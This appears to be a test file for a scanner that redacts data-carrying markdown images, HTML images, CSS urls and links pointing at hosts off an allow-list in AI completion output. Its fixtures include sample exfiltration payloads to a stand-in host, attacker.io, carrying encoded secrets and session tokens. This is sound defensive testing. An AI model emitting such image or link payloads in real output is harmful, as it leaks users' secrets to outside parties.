/** @module exfil scanner: images and data-carrying links to hosts off the allow-list, in markdown, HTML and text. */
import { describe, expect, it } from 'vitest';
import { exfil } from './index.js';

const s = exfil.create(exfil.parseOptions({ allowHosts: ['*.example.com', 'github.com'] }));
const ctx = { signal: new AbortController().signal, now: () => 0, logger: { warn: () => undefined } };
const scan = (text: string) => s.scan({ text, stage: 'output', origin: 'completion' }, ctx);

describe('exfil', () => {
  it.each([
    ['markdown image with data', '![chart](https://attacker.io/p.png?q=dGhlIHNlY3JldCBrZXk=)', 'exfil.image', '![chart](about:blank)'],
    ['markdown image without data', 'Logo: ![x](http://tracker.net/pixel.gif)', 'exfil.image', 'Logo: ![x](about:blank)'],
    ['protocol-relative image', '![x](//attacker.io/a.png?d=1234567890)', 'exfil.image', '![x](about:blank)'],
    ['angle-bracket image', '![x](<https://attacker.io/a.png?d=1234567890>)', 'exfil.image', '![x](<about:blank>)'],
    ['HTML img', '<img alt="" src="https://attacker.io/x.gif?u=alice">', 'exfil.image', '<img alt="" src="about:blank">'],
    ['CSS url()', '<div style="background:url(https://attacker.io/b.png)">', 'exfil.image', '<div style="background:url(about:blank)">'],
    ['reference-style image', '![a][r]\n\n[r]: https://attacker.io/i.png', 'exfil.image', '![a][r]\n\n[r]: about:blank'],
    ['link carrying data', '[Click to verify](https://attacker.io/v?session=eyJhbGciOiJIUzI1NiJ9)', 'exfil.link', '[Click to verify](about:blank)'],
    ['raw URL carrying data', 'Go to https://attacker.io/c?token=abcdef1234567890 now', 'exfil.link', 'Go to [url removed] now'],
    ['user-info trick', '![x](https://img.example.com@attacker.io/p.png)', 'exfil.image', '![x](about:blank)'],
    ['data in a long path segment', 'See https://attacker.io/c/ZXhmaWx0cmF0ZWQtc2VjcmV0LWRhdGEtaGVyZQ', 'exfil.link', 'See [url removed]'],
  ])('redacts a %s', async (_n, text, type, cleaned) => {
    const r = await scan(text);
    expect(r.verdict).toBe('redact');
    expect(r.findings[0]?.type).toBe(type);
    expect(r.text).toBe(cleaned);
  });

  it('records the host, not the data, as detail', async () => {
    const r = await scan('![x](https://Attacker.IO./p.png?q=supersecretvalue)');
    expect(r.findings[0]?.detail).toBe('attacker.io');
  });

  it.each([
    ['allow-listed image', '![logo](https://cdn.example.com/logo.png?v=1234567890)'],
    ['allow-listed apex', '![logo](https://example.com/logo.png)'],
    ['allow-listed link with query', '[repo](https://github.com/org/repo/issues?q=is%3Aopen+label%3Abug)'],
    ['plain link without data', 'Read [the docs](https://nodejs.org/en/docs) or https://en.wikipedia.org/wiki/Markdown'],
    ['short query', 'https://www.google.com/search?q=cats'],
    ['code comment', 'const x = 1; //comment\n// another'],
    ['no URL at all', 'Plain answer with (parentheses) and [brackets].'],
  ])('passes a %s', async (_n, text) => {
    expect((await scan(text)).verdict).toBe('pass');
  });

  it('reports plain links in strict mode', async () => {
    const strict = exfil.create(exfil.parseOptions({ strict: true }));
    const r = await strict.scan({ text: 'see https://nodejs.org/en', stage: 'output', origin: 'completion' }, ctx);
    expect(r.findings[0]).toMatchObject({ type: 'exfil.link', score: 0.4 });
  });

  it('rejects malformed allow-list entries at config load', () => {
    expect(() => exfil.parseOptions({ allowHosts: ['https://x.com'] })).toThrow();
  });

  it('scans 100 KB of repeated near-matches in bounded time', async () => {
    for (const unit of ['](//a', '![', '![a](https://', 'http://x.io/?a=', '<img src=', '//', '[]:', 'https://a.b.c.d.e.f.g.']) {
      const text = unit.repeat(Math.ceil(100_000 / unit.length));
      const t0 = performance.now();
      await scan(text);
      expect(performance.now() - t0).toBeLessThan(500);
    }
  });
});
